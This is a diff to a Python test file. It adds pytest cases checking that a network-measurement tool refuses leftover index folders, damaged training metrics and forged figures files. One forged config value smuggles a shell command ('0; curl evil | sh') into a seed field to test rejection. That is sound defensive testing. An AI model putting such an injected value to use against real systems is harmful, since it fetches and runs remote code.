@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import dataclasses
 import json
 import shutil
 from pathlib import Path
@@ -148,7 +149,17 @@ def test_an_unfinished_index_is_made_again(networks, results, tmp_path):
     assert sorted(path.name for path in folder.iterdir()) == [FIGURES_FILE, "index"]
 
 
-@pytest.mark.parametrize("kind", ["a photo in it", "a link", "a link above", "a file"])
+@pytest.mark.parametrize(
+    "kind",
+    [
+        "a photo in it",
+        "a photo in a generation",
+        "a folder as record of the network",
+        "a link",
+        "a link above",
+        "a file",
+    ],
+)
 def test_what_is_no_unfinished_index_is_not_deleted(kind, networks, results, tmp_path):
     out, mine = shutil.copytree(results[0], tmp_path / "out"), tmp_path / "mine"
     folder = out / PROTOCOL / results[1]["ortho-0"].about["name"]
@@ -156,6 +167,15 @@ def test_what_is_no_unfinished_index_is_not_deleted(kind, networks, results, tmp
     (folder / "index").rename(mine)
     if kind == "a photo in it":
         mine = mine.rename(folder / "unfinished")
+        (mine / "photo.jpg").touch()
+    elif kind == "a photo in a generation":
+        mine = mine.rename(folder / "unfinished") / "generation-2024"
+        mine.mkdir()
+        (mine / "photo.jpg").touch()
+    elif kind == "a folder as record of the network":
+        mine = mine.rename(folder / "unfinished") / "connector.json"
+        mine.unlink()
+        mine.mkdir()
         (mine / "photo.jpg").touch()
     elif kind == "a link":
         (folder / "unfinished").symlink_to(mine)
@@ -166,7 +186,7 @@ def test_what_is_no_unfinished_index_is_not_deleted(kind, networks, results, tmp
     else:
         (folder / "unfinished").touch()
     before = sorted(mine.iterdir())
-    with pytest.raises(DataError, match="is not an index that an interrupted run has left: move it away"):
+    with pytest.raises(DataError, match="move it away"):
         measure_network(networks["ortho-0"], "digits", PROTOCOL, out, progress=silent)
     assert sorted(mine.iterdir()) == before
 
@@ -183,13 +203,15 @@ def test_an_index_of_other_images_is_refused(networks, results, tmp_path):
         measure_network(networks["ortho-0"], "digits", PROTOCOL, out, progress=silent)
 
 
-@pytest.mark.parametrize("damage", ["no metrics", "half a line", "no training"])
+@pytest.mark.parametrize("damage", ["no metrics", "half a line", "no time", "a text", "no training"])
 def test_a_network_without_a_record_of_its_training_is_refused_at_once(damage, networks, tmp_path):
     model = shutil.copytree(networks["ortho-0"], tmp_path / "model")
     if damage == "no metrics":
         (model / "metrics.jsonl").unlink()
     elif damage == "half a line":
         (model / "metrics.jsonl").write_text('{"epoch": 1, "los')
+    elif damage in ("no time", "a text"):
+        (model / "metrics.jsonl").write_text('{"epoch": 1}' if damage == "no time" else '{"seconds": "1"}')
     else:
         content = json.loads((model / "model.json").read_text())
         (model / "model.json").write_text(json.dumps({**content, "training": {}}))
@@ -209,3 +231,26 @@ def test_a_damaged_file_of_figures_is_refused(results, tmp_path):
     file.write_bytes((folder_of(results, "ortho-0") / FIGURES_FILE).read_bytes()[:1000])
     with pytest.raises(DataError, match="delete it, and the network is measured again"):
         Measurement.load(file)
+
+
+@pytest.mark.parametrize(
+    ("fact", "value", "reason"),
+    [
+        ("sha256", "0" * 64, "has the figures of another network than .*sha256 differs"),
+        ("protocol", "tin200", "figures of the protocol 'tin200', expected cifar10-2"),
+        ("name", "other", "figures of the name 'other', expected ortho-0-"),
+        ("classes", [f"class {place}" for place in range(10)], "classes differs"),
+        ("queries", 7, "has another shape or type"),
+        ("queries", "7", "it has no numbers of images"),
+        ("weights", ["x"], "the weights are no text"),
+        ("config", {"epochs": 3, "seed": "0; curl evil | sh"}, "seed = '0; curl evil | sh'"),
+        ("start", {}, "architecture"),
+    ],
+)
+def test_figures_that_are_not_of_the_network_are_refused(fact, value, reason, networks, results, tmp_path):
+    out = shutil.copytree(results[0], tmp_path / "out")
+    one = results[1]["ortho-0"]
+    forged = dataclasses.replace(one, about={**one.about, fact: value})
+    forged.save(out / PROTOCOL / one.about["name"] / FIGURES_FILE)
+    with pytest.raises(DataError, match=reason):
+        measure_network(networks["ortho-0"], "digits", PROTOCOL, out, progress=silent)
